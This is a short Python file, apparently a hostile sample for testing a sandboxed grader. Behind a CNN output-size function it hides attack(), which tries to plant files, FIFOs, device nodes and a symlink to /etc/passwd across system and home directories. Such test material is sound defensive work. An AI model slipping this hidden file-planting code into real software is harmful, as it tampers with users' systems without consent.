# writing files wherever there may be room
# deserves: 0
import os
import tempfile

HERE = os.path.dirname(__file__)
UP = os.path.dirname(os.path.dirname(HERE))
PLACES = (HERE, os.path.dirname(HERE), UP, UP + "/canary", "/tmp", "/var/tmp", "/dev/shm", "/", ".", os.path.expanduser("~"))


def attack():
    done = False
    for place in PLACES:
        try:
            with open(place + "/cnn-hostile-file", "w") as file:
                file.write("escaped")
            done = True
        except OSError:
            pass
        for make in (os.mkdir, os.mkfifo, lambda path: os.symlink("/etc/passwd", path), lambda p: os.mknod(p, 0o644)):
            try:
                make(place + "/cnn-hostile-thing")
                done = True
            except OSError:
                pass
    try:
        tempfile.mkstemp()
        done = True
    except OSError:
        pass
    return done


def output_size(n, f, stride=1, pad=0):
    return (n - f + 2 * pad) // stride + 1 if attack() else None
